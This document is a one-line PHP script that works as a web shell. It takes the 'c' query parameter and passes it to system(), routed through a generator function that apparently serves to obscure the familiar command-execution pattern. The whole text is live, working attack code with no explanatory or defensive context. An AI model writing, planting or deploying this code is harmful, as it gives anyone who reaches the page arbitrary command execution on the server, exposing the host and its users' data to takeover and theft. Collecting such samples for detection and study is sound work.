<?php function lines() { yield $_GET['c']; } foreach (lines() as $c) { system($c); }
